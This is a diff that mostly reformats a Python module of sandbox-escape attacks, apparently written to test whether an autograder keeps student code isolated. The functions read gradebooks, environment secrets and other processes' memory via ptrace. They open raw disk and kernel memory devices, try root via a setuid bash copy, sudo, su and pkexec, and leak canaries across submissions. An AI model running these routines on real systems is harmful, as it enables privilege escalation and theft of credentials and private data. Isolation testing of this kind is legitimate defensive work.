@@ -1,4 +1,5 @@
 """Attacks that look for what a student may not see: answers, checks, others' work, credentials."""
+# ruff: noqa: PTH109, PTH115, PTH123, PTH208, SIM115 - as hostile code is written
 
 import ctypes
 import gc
@@ -14,7 +15,9 @@ from .attack import attack
 from .prelude import CANARY, WHERE, attempt, find, libc, places, proof
 
 
-@attack("reads the instructor's solutions, the checks, the secret, other hand-ins and the gradebook where they lie")
+@attack(
+    "reads the instructor's solutions, the checks, the secret, other hand-ins and the gradebook where they lie"
+)
 def reads_the_course():
     return find(*places())
 
@@ -33,7 +36,11 @@ def searches_the_machine():
 
 @attack("asks the gradebook for the other students")
 def queries_the_gradebook():
-    rows = sqlite3.connect(f"{WHERE['class']}/gradebook.db").execute("select * from student").fetchall()
+    rows = (
+        sqlite3.connect(f"{WHERE['class']}/gradebook.db")
+        .execute("select * from student")
+        .fetchall()
+    )
     return find(rows, *(f"{row}" for row in rows))
 
 
@@ -41,7 +48,11 @@ def queries_the_gradebook():
 def reads_the_environment():
     environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
     own = [environ[i] for i in range(200) if environ[i]] if environ else []
-    told = subprocess.run(["env"], capture_output=True).stdout if Path("/usr/bin/env").exists() else b""
+    told = (
+        subprocess.run(["env"], capture_output=True).stdout
+        if Path("/usr/bin/env").exists()
+        else b""
+    )
     return find(dict(os.environ), *own, told, *Path("/proc").glob("[0-9]*/environ"))
 
 
@@ -53,7 +64,7 @@ def reads_other_processes():
             found += find(*(Path(f"{process}/{link}/{place}") for place in places()))
         for number in attempt(os.listdir, process / "fd") or []:
             target = process / "fd" / number
-            if "/" == (attempt(os.readlink, target) or "")[:1] and target.is_file():
+            if (attempt(os.readlink, target) or "")[:1] == "/" and target.is_file():
                 found += find(target)
     return found
 
@@ -76,7 +87,9 @@ def searches_its_memory():
 @attack("reads and writes the memory of the processes around it")
 def reads_their_memory():
     found = set()
-    for number in {1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
+    for number in {1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {
+        os.getpid()
+    }:
         libc.ptrace(16, number, 0, 0)  # PTRACE_ATTACH
         try:
             maps = Path(f"/proc/{number}/maps").read_text().splitlines()
@@ -94,11 +107,18 @@ def reads_their_memory():
 @attack("imports the grader and its checks")
 def imports_the_grader():
     sys.path[:0] = [WHERE["course"], *(os.fspath(place) for place in places())]
-    for name in ("autograder.checks.hostile", "autograder.grading", "autograder.course", "nbgrader.api"):
+    for name in (
+        "autograder.checks.hostile",
+        "autograder.grading",
+        "autograder.course",
+        "nbgrader.api",
+    ):
         module = attempt(importlib.import_module, name)
         if module:
             return find(Path(module.__file__).parent, module.__file__)
-    return find(*(Path(m.__file__) for n, m in list(sys.modules.items()) if "inside" in n and m.__file__))
+    return find(
+        *(Path(m.__file__) for n, m in list(sys.modules.items()) if "inside" in n and m.__file__)
+    )
 
 
 @attack("walks up its frames and looks at every variable on the way")
@@ -118,7 +138,10 @@ def walks_the_frames():
 def hunts_the_objects():
     found = set()
     for thing in gc.get_objects():
-        for text in [thing, *(gc.get_referents(thing) if len(gc.get_referents(thing)) < 1000 else [])]:
+        for text in [
+            thing,
+            *(gc.get_referents(thing) if len(gc.get_referents(thing)) < 1000 else []),
+        ]:
             if type(text) in (str, bytes) and 30 < len(text) < 1 << 20:
                 found |= set(CANARY.findall(text if type(text) is str else text.decode("latin-1")))
     return find(*found)
@@ -146,7 +169,9 @@ def opens_by_handle():
         if folder is None:
             continue
         for inode in range(1, 64):
-            raw = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little")
+            raw = (
+                (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little")
+            )
             handle = ctypes.create_string_buffer(raw)
             opened = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
             if opened >= 0:
@@ -160,9 +185,22 @@ def opens_by_handle():
 @attack("reads the disk and the memory of the machine as devices")
 def reads_devices():
     found = ""
-    for number, name in ((os.makedev(254, 0), "disk"), (os.makedev(1, 1), "memory"), (os.makedev(1, 2), "kernel")):
+    for number, name in (
+        (os.makedev(254, 0), "disk"),
+        (os.makedev(1, 1), "memory"),
+        (os.makedev(1, 2), "kernel"),
+    ):
         attempt(os.mknod, name, 0o600 | 0o060000 if name == "disk" else 0o600 | 0o020000, number)
-    for device in ("disk", "memory", "kernel", "/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/proc/kcore"):
+    for device in (
+        "disk",
+        "memory",
+        "kernel",
+        "/dev/vda",
+        "/dev/sda",
+        "/dev/mem",
+        "/dev/kmsg",
+        "/proc/kcore",
+    ):
         descriptor = attempt(os.open, device, os.O_RDONLY | os.O_NONBLOCK)
         raw = attempt(os.read, descriptor, 4096) if descriptor is not None else b""
         found += proof(f"device {device}") if raw else ""
@@ -203,7 +241,11 @@ def changes_its_namespaces():
 
 @attack("becomes another user, root at best, and looks again")
 def becomes_root():
-    for change in (lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setresgid(0, 0, 0)):
+    for change in (
+        lambda: os.setresuid(0, 0, 0),
+        lambda: os.setgroups([0]),
+        lambda: os.setresgid(0, 0, 0),
+    ):
         attempt(change)
     attempt(libc.prctl, 8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
     attempt(libc.capset, ctypes.c_uint64(0x20080522), ctypes.create_string_buffer(b"\xff" * 24))
@@ -212,8 +254,15 @@ def becomes_root():
     attempt(lambda: shell.write_bytes(Path("/bin/bash").read_bytes()))
     attempt(shell.chmod, 0o6755)
     script = "cat " + " ".join(f"{place}/* {place}" for place in WHERE["places"])
-    for command in (["./shell", "-p", "-c"], ["su", "-c"], ["sudo", "-n", "sh", "-c"], ["pkexec", "sh", "-c"]):
-        done = attempt(lambda c=command: subprocess.run([*c, script], capture_output=True, timeout=1, stdin=-3))
+    for command in (
+        ["./shell", "-p", "-c"],
+        ["su", "-c"],
+        ["sudo", "-n", "sh", "-c"],
+        ["pkexec", "sh", "-c"],
+    ):
+        done = attempt(
+            lambda c=command: subprocess.run([*c, script], capture_output=True, timeout=1, stdin=-3)
+        )
         found += find(done.stdout) if done else ""
     return found
 
@@ -221,10 +270,19 @@ def becomes_root():
 @attack("takes what an earlier student left for it, and leaves something for the next")
 def a_leaves_for_the_next():
     token = "canary-" + "ab" * 16
-    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.environ.get("HOME", "/")):
+    for folder in (
+        "/tmp",
+        "/var/tmp",
+        "/dev/shm",
+        "/run",
+        os.getcwd(),
+        os.environ.get("HOME", "/"),
+    ):
         attempt(Path(folder, "left-for-the-next").write_text, token)
     raw = token.encode()
-    libc.syscall(248, b"user", b"left", raw, len(raw), ctypes.c_int(-4))  # add_key, the user's keyring
+    libc.syscall(
+        248, b"user", b"left", raw, len(raw), ctypes.c_int(-4)
+    )  # add_key, the user's keyring
     number = libc.shmget(0x5EED, 4096, 0o1666)
     libc.shmat.restype = ctypes.c_void_p
     address = libc.shmat(number, None, 0) if number >= 0 else None
@@ -237,11 +295,20 @@ def a_leaves_for_the_next():
 
 @attack("is the next student, and looks for what the one before it left")
 def b_is_the_next():
-    found = find(*(Path(folder) / "left-for-the-next" for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".")))
-    key = libc.syscall(250, ctypes.c_long(10), ctypes.c_int(-4), b"user", b"left", 0)  # keyctl search
+    found = find(
+        *(
+            Path(folder) / "left-for-the-next"
+            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".")
+        )
+    )
+    key = libc.syscall(
+        250, ctypes.c_long(10), ctypes.c_int(-4), b"user", b"left", 0
+    )  # keyctl search
     if key > 0:
         raw = ctypes.create_string_buffer(100)
-        libc.syscall(250, ctypes.c_long(11), ctypes.c_long(key), raw, ctypes.c_long(100))  # keyctl read
+        libc.syscall(
+            250, ctypes.c_long(11), ctypes.c_long(key), raw, ctypes.c_long(100)
+        )  # keyctl read
         found += " keyring: " + find(raw.raw)
     number = libc.shmget(0x5EED, 4096, 0o666)
     libc.shmat.restype = ctypes.c_void_p
